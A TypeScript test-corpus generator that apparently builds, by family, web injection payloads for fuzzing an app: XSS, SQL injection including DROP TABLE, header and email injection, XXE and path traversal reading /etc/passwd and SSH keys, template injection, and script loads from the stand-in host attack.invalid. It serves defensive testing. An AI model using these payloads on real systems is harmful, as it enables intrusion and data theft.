// Strings made to get out of where they are shown: composed here, by families, so that nothing is taken from anybody's list. Whoever
// carries one out calls `__hit`, opens a dialog or asks `attack.invalid` for something; a browser that is watched notices each of them.

export interface Attack {
  readonly family: string;
  readonly text: string;
}

/** All of them, each once, the same in every run. */
export function attackStrings(): readonly Attack[] {
  const seen = new Set<string>();
  return Object.entries(FAMILIES).flatMap(([family, make]) =>
    make()
      .filter((text) => /[\p{L}\p{N}\p{P}\p{S}]/u.test(text) && !seen.has(text) && seen.add(text))
      .map((text) => ({ family, text: text.toWellFormed() })),
  );
}

/** As many as asked for, of every family in turn, chosen by the seed. */
export function sampleAttacks({ count, seed }: { readonly count: number; readonly seed: number }): readonly Attack[] {
  const families = [...Map.groupBy(attackStrings(), ({ family }) => family).values()].map((all) => shuffled(all, seed));
  const chosen: Attack[] = [];
  for (let round = 0; chosen.length < count; round += 1)
    for (const all of families) if (all[round] && chosen.length < count) chosen.push(all[round]!);
  return chosen;
}

function shuffled<T>(all: readonly T[], seed: number): readonly T[] {
  let state = seed * 2654435761;
  const next = () => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
    return state;
  };
  return all
    .map((one) => [next(), one] as const)
    .sort(([one], [other]) => one - other)
    .map(([, one]) => one);
}

/** Each with each. */
const cross = (...lists: readonly (readonly string[])[]): readonly string[][] =>
  lists.reduce<readonly string[][]>((rows, list) => rows.flatMap((row) => list.map((one) => [...row, one])), [[]]);
/** `§` stands for what is put in. */
const filled = (frames: readonly string[], inner: readonly string[]) =>
  cross(frames, inner).map(([frame, one]) => frame!.replaceAll('§', () => one!));

const CALLS = ['__hit()', 'alert(1)', "eval('__hit()')", "import('//attack.invalid/a.js')", 'top[`__hit`]()'];
const PAYLOADS = [
  '<script>__hit()</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=__hit()>',
  '<iframe src=//attack.invalid/f></iframe>',
  '<body onload=__hit()>',
  '<script src=//attack.invalid/s.js></script>',
  '<img src=//attack.invalid/pixel.gif>',
  '<a href=javascript:__hit()>here</a>',
  '<style>@import "//attack.invalid/s.css"</style>',
  '<form action=//attack.invalid><button>Send</button></form>',
  '<meta http-equiv=refresh content="0;url=//attack.invalid">',
  '<base href=//attack.invalid/>',
];

const ELEMENTS: readonly string[] = [
  ...'img svg video audio input body iframe object embed details marquee form select textarea keygen button'.split(' '),
  ...'math table style link meta isindex bgsound template dialog x-a picture source track area'.split(' '),
];
const HANDLERS =
  'onerror onload onfocus onmouseover onclick ontoggle onstart onanimationstart onpointerenter oncanplay onbeforeinput onscrollend onauxclick'.split(
    ' ',
  );
const QUOTINGS = ['=§', '="§"', "='§'", '=`§`', ' = §', '\n=\n"§"', '/="§"'];

const FAMILIES: Readonly<Record<string, () => readonly string[]>> = {
  elements: () =>
    cross(ELEMENTS, QUOTINGS).flatMap(([element, quoting], at) =>
      [0, 5, 9].map((step) => {
        const handler = HANDLERS[(at + step) % HANDLERS.length]!;
        const value = quoting!.replace('§', CALLS[(at + step) % CALLS.length]!);
        return `<${element} src=x autofocus tabindex=0 ${handler}${value}>`;
      }),
    ),

  breakouts: () =>
    filled(
      [
        '">§',
        "'>§",
        '`>§',
        '-->§<!--',
        '--!>§',
        ']]>§<![CDATA[',
        '</textarea>§<textarea>',
        '</title>§',
        '</script>§<script>',
        '</style>§<style>',
        '</noscript>§<noscript>',
        '</p></div></article></main>§',
        '</option></select>§',
        '</button></form>§',
        '</a>§<a href="',
        '</svg>§',
        '<!--§-->',
        '<noscript>§</noscript>',
        '<plaintext>§',
        '<xmp>§</xmp>',
        '<template>§</template>',
        '<!DOCTYPE x>§',
        '<?xml version="1.0"?>§',
      ],
      PAYLOADS,
    ),

  attributes: () =>
    filled(
      [
        '" § x="',
        "' § x='",
        ' § ',
        '"/§/x="',
        '&quot; § x=&quot;',
        '&#34; § x=&#34;',
        '\u201C § x=\u201C',
        '%22 § x=%22',
      ],
      HANDLERS.map((handler, at) => `${handler}="${CALLS[at % CALLS.length]}" autofocus tabindex=1`),
    ),

  encodings: () => PAYLOADS.flatMap((payload) => ENCODINGS.map((encode) => encode(payload))),

  schemes: () => filled(LINK_FRAMES, SCHEMES),

  markup: () =>
    filled(
      [
        '*§*',
        '**§**',
        '***§***',
        '> §',
        '> > > > > > §',
        '>§',
        '> *§\n> *x*',
        '> §\n\n> > §',
        'https://example.org/§',
        'https://§.example',
        'https://user:§@example.org/',
        'https://example.org/?q=§&x=§#§',
        '(https://example.org/§)',
        '*https://example.org/§*',
        'https://example.org/*§*',
        'https://[§]/',
        'https://example.org:§/',
        '«§» **a**b*',
        'https://example.org/\u202E§',
        'https://exam\u200Bple.org/§',
        'https://example.org/\u05D0\u05D1§\u05D2',
      ],
      [
        '"onmouseover="__hit()',
        "'onclick='__hit()",
        '<b>x</b>',
        '&quot;>&lt;script>',
        'a"b\'c`d',
        '*x* **y**',
        '%00%0d%0a%22%3E',
        '"><svg/onload=__hit()>',
      ],
    ),

  styles: () =>
    filled(
      [
        '<style>§</style>',
        '<p style="§">x</p>',
        '" style="§',
        '<link rel=stylesheet href="data:text/css,§">',
        '§',
        '</style>§',
      ],
      [
        'body{background:url(//attack.invalid/b.png)}',
        '@import url(//attack.invalid/i.css);',
        'width:expression(__hit())',
        '-moz-binding:url(//attack.invalid/x.xml#y)',
        'input[value^="a"]{background:url(//attack.invalid/a)}',
        '*{display:none!important}',
        'position:fixed;inset:0;z-index:99999',
        '@font-face{font-family:x;src:url(//attack.invalid/f)}',
        'behavior:url(#default#time2)',
        '\\62\\61\\63kground:url(javascript:__hit())',
      ],
    ),

  foreign: () =>
    filled(
      [
        '<svg>§</svg>',
        '<math>§</math>',
        '<svg><foreignObject>§</foreignObject></svg>',
        '<math><mtext><table><mglyph><style>§',
        '<svg><desc>§',
        '<form><math><mtext></form><form><mglyph><style></math>§',
        '<svg></p><style>§',
        '§',
      ],
      [
        '<script>__hit()</script>',
        '<script xlink:href="data:,__hit()" />',
        '<animate onbegin=__hit() attributeName=x dur=1s>',
        '<set attributeName=href to=javascript:__hit()><a><text y=20>x</text></a>',
        '<use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=__hit()>#x">',
        '<image href=//attack.invalid/i.svg>',
        '<maction actiontype=statusline xlink:href=javascript:__hit()>x</maction>',
        '<style><img src="</style><img src=x onerror=alert(1)//">',
        '<title><img src=x onerror=__hit()></title>',
      ],
    ),

  templates: () =>
    filled(
      [
        '{{§}}',
        '{{{§}}}',
        // biome-ignore lint/suspicious/noTemplateCurlyInString: it is an attack on templates
        '${§}',
        '#{§}',
        '<%= § %>',
        '<% § %>',
        '{% § %}',
        '[[§]]',
        '{{constructor.constructor("§")()}}',
        // biome-ignore lint/suspicious/noTemplateCurlyInString: it is an attack on templates
        '`${§}`',
        '{§}',
        '$§',
        '<?php § ?>',
        '*{§}',
        '@{§}',
        // biome-ignore lint/suspicious/noTemplateCurlyInString: it is an attack on templates
        '${{§}}',
        '{name}{title}{count}§',
        "$&$`$'$1§",
      ],
      ['__hit()', '7*7', 'title', 'name', 'process.env', 'this.constructor', "x['__proto__']"],
    ),

  queries: () =>
    filled(
      ["'§", '"§', '§', "x')§", '")§--', "%' § '%", '\\§', '1;§'],
      [
        ' OR 1=1',
        ' OR 1=1 --',
        ' UNION SELECT id, body FROM contribution --',
        '; DROP TABLE contribution; --',
        " || (SELECT email FROM contribution) || '",
        ' AND name MATCH *',
        'NEAR(a b, 99999999999)',
        'body: ^a* AND (b OR',
        '*"*" NOT',
        '/**/OR/**/1',
        '{name body}: x',
        ') LIMIT 1 OFFSET 1 --',
      ],
    ),

  headers: () =>
    filled(
      [
        'x\r\n§',
        'x\n§',
        'x\r§',
        'x%0d%0a§',
        'x\u2028§',
        'x\u0085§',
        'x\r\n\r\n§',
        '§\r\n.\r\n',
        '=?utf-8?Q?=0D=0A§?=',
        'x\u560D\u560A§',
        'x\0§',
      ],
      [
        'Bcc: victim@attack.invalid',
        'To: victim@attack.invalid',
        'Subject: Another',
        'Content-Type: text/html; charset=utf-8',
        'X-Attack: yes',
        'Set-Cookie: stet-session=x',
        'Location: https://attack.invalid/',
        'RCPT TO:<victim@attack.invalid>',
        'Reply-To: <victim@attack.invalid>, other@attack.invalid',
        '<script>__hit()</script>',
      ],
    ),

  xml: () =>
    filled(
      [
        '§',
        'x]]>§<![CDATA[',
        '<![CDATA[§]]>',
        '</content></entry>§<entry><content>',
        '&lt;§&gt;',
        '<!DOCTYPE a [§]>&b;',
      ],
      [
        '<!ENTITY b SYSTEM "file:///etc/passwd">',
        '<!ENTITY % b SYSTEM "//attack.invalid/b.dtd"> %b;',
        '&b;&amp;&#0;&#x1;&#xD800;&#xFFFE;',
        '<?xml-stylesheet href="//attack.invalid/x.xsl"?>',
        '<xi:include href="file:///etc/passwd" parse="text"/>',
        '<entry><title>another</title></entry>',
        ']]]]><![CDATA[>',
        '<x xmlns="http://www.w3.org/1999/xhtml" onload="__hit()"/>',
        '\u0001\u000B\u001F\uFFFE',
        '&#60;script&#62;__hit()&#60;/script&#62;',
      ],
    ),

  json: () =>
    filled(
      ['§', '"§', '\\"§', '"}§', "'§", '"]}§', '</script>§', '\\u0022§'],
      [
        ',"state":"validated"',
        ',"__proto__":{"isAdmin":true}',
        ';__hit()//',
        '+__hit()+"',
        '\u2028__hit()\u2029',
        '-alert(1)-"',
        '\\u003cscript\\u003e__hit()\\u003c/script\\u003e',
        '\\',
        ':null}]}{"a":"',
        '/*',
      ],
    ),

  paths: () =>
    filled(
      ['§', '/§', '§%00.md', '§/', 'file://§', 'x/§/x'],
      [
        '../../../../etc/passwd',
        '..%2f..%2fetc%2fpasswd',
        '..\\..\\windows\\win.ini',
        '....//....//etc/passwd',
        '%2e%2e%2f%2e%2e%2f',
        '//attack.invalid/..',
        '/\\attack.invalid',
        '..%c0%af..%c0%af',
        'CON',
        'stet.sqlite',
        '~/.ssh/id_rsa',
        '.%00./',
      ],
    ),

  signs: () =>
    filled(
      [
        'a§b',
        '§x',
        'x§',
        '<§script>__hit()</§script>',
        'java§script:__hit()',
        'https://exa§mple.org/',
        '<img src=x on§error=__hit()>',
        '*§x§*',
      ],
      [
        '\u202Egnirts\u202C',
        '\u2066\u2067\u2068\u2069',
        '\u200B\u200C\u200D\uFEFF',
        '\u0000',
        '\u0001\u0002\u001B[31m',
        '\u007F\u009B',
        'Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309'.repeat(3),
        '\uFFFE\uFFFF\u{1FFFE}',
        '\u{E0041}\u{E0042}\u{E007F}',
        '\u00AD\u034F\u115F\u3164',
        '\u0430\u0440\u0440le',
        '\uFF1Cscript\uFF1E',
        '\u2039img\u203A',
        '\uFB01\u0130\u0131\u1E9E',
        '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}',
        '\u05D0\u05D1\u0627\u0644',
        '\u2028\u2029\u0085',
        '\u180E\u2060\u2063',
      ],
    ),

  runs: () => [
    ...[
      '<',
      '>',
      '"',
      "'",
      '&',
      '*',
      '> ',
      '(',
      '[',
      '{',
      '`',
      '\\',
      '%',
      'A',
      '&amp;',
      '<b>',
      '</',
      '<!--',
      '*a',
      '**',
      '\n',
      '\n>',
      'https://a',
      '\u0301',
      '<svg><g>',
      '&#',
      '\u202E',
      '<a "',
    ].flatMap((piece) =>
      [300, 4000].map((length) => `x${piece.repeat(Math.ceil(length / piece.length)).slice(0, length)}x`),
    ),
  ],

  polyglots: () =>
    filled(
      ['§', '">§', "';§//", '*§*', '> §', 'https://example.org/§', '<x>§'],
      [
        `*/"'\`-->]]></title></textarea></style></script></noscript><svg/onload=__hit()//>`,
        'javascript:/*"/*\'/*`/*--></noscript></title></textarea><details open ontoggle=alert(1)>*/__hit()',
        `'"><img src=x onerror=__hit()>{{7*7}}\${__hit()}<%=1%>;--\r\nX-Attack: 1`,
        '%0d%0a"><script>__hit()</script>&lt;svg onload=alert(1)&gt;]]>',
        `\\"-alert(1)}//"';__hit()//<!--<script>--><b onclick=__hit()>`,
        '\u202E"><\u200Bscript>__hit()</script>\u0000<img/src/onerror=__hit()>',
        `' OR 1=1;--"><iframe srcdoc='<script>parent.__hit()</script>'>{{constructor}}`,
        '<math><style><!--</style><img title="--&gt;&lt;img src=x onerror=__hit()&gt;">*x*',
        '[x](javascript:__hit()) [x->javascript:__hit()] [[x|javascript:__hit()]] <javascript:__hit()> https://x/"onclick="__hit()',
      ],
    ),
};

const eachLetter = (text: string, encode: (code: number) => string) =>
  [...text].map((letter) => encode(letter.codePointAt(0)!)).join('');
const marksOnly = (text: string, encode: (code: number) => string) =>
  text.replace(/[<>"'=/]/g, (mark) => encode(mark.charCodeAt(0)));
const hex = (code: number, length: number) => code.toString(16).padStart(length, '0');

const ENCODINGS: readonly ((text: string) => string)[] = [
  (text) => eachLetter(text, (code) => `&#${code};`),
  (text) => eachLetter(text, (code) => `&#x${hex(code, 2)};`),
  (text) => marksOnly(text, (code) => `&#${String(code).padStart(7, '0')}`),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (text) => text.replaceAll('<', '&LT').replaceAll('>', '&GT'),
  (text) => encodeURIComponent(text),
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => marksOnly(text, (code) => `%u${hex(code, 4)}`),
  (text) => marksOnly(text, (code) => `\\u${hex(code, 4)}`),
  (text) => marksOnly(text, (code) => `\\x${hex(code, 2)}`),
  (text) => marksOnly(text, (code) => `\\${code.toString(8)}`),
  // Overlong UTF-8, as it looks in an address and read as Latin-1.
  (text) => marksOnly(text, (code) => `%c0%${hex(0x80 | code, 2)}`),
  (text) => marksOnly(text, (code) => `\u00C0${String.fromCharCode(0x80 | code)}`),
  (text) => text.replace(/[a-z]/g, (letter, at: number) => (at % 2 ? letter : letter.toUpperCase())),
  (text) => text.replace(/[a-z]{2}/g, '$&\0'),
  (text) => text.replace(/(?<=[a-z])(?=[a-z]{3})/g, '\t'),
  (text) => text.replaceAll(' ', '\n'),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replaceAll(' ', '\f'),
  (text) => text.replace(/[!-~]/g, (sign) => String.fromCharCode(sign.charCodeAt(0) + 0xfee0)),
  (text) => text.replace(/(?<=[a-z])/g, '\u200D'),
  (text) => text.replace('<', '<\u00AD').replace('>', '\u034F>'),
  (text) => `${text.replace('<', '+ADw-')}+AD4-`,
  (text) => Buffer.from(text).toString('base64'),
  (text) => `data:text/html;base64,${Buffer.from(text).toString('base64')}`,
];

const SCHEMES = [
  'javascript:__hit()',
  'JaVaScRiPt:__hit()',
  'java\tscript:__hit()',
  'java\nscript:__hit()',
  '\u0001javascript:__hit()',
  'javascript&colon;__hit()',
  'javascript&#58;__hit()',
  'javascript%3A__hit()',
  'javascript://example.org/%0a__hit()',
  'data:text/html,<script>__hit()</script>',
  'data:image/svg+xml,<svg onload=__hit()>',
  'vbscript:msgbox(1)',
  'blob:http://attack.invalid/x',
  'file:///etc/passwd',
  'view-source:javascript:__hit()',
  '//attack.invalid/x',
  '\\\\attack.invalid\\x',
  '/\\attack.invalid',
  'http:javascript:__hit()',
  'https:attack.invalid',
  'http://attack.invalid"onclick="__hit()',
  'mailto:x@attack.invalid?bcc=y@attack.invalid',
];
const LINK_FRAMES = [
  '§',
  'See §.',
  '[here](§)',
  '[here]: § "x"',
  '![x](§)',
  '[here->§]',
  '<§>',
  '<a href="§">here</a>',
  "<a href='§' target=_blank>here</a>",
  '<a href=§>here</a>',
  '*§*',
  'https://example.org/?to=§',
  'http://§',
  '(§)',
];
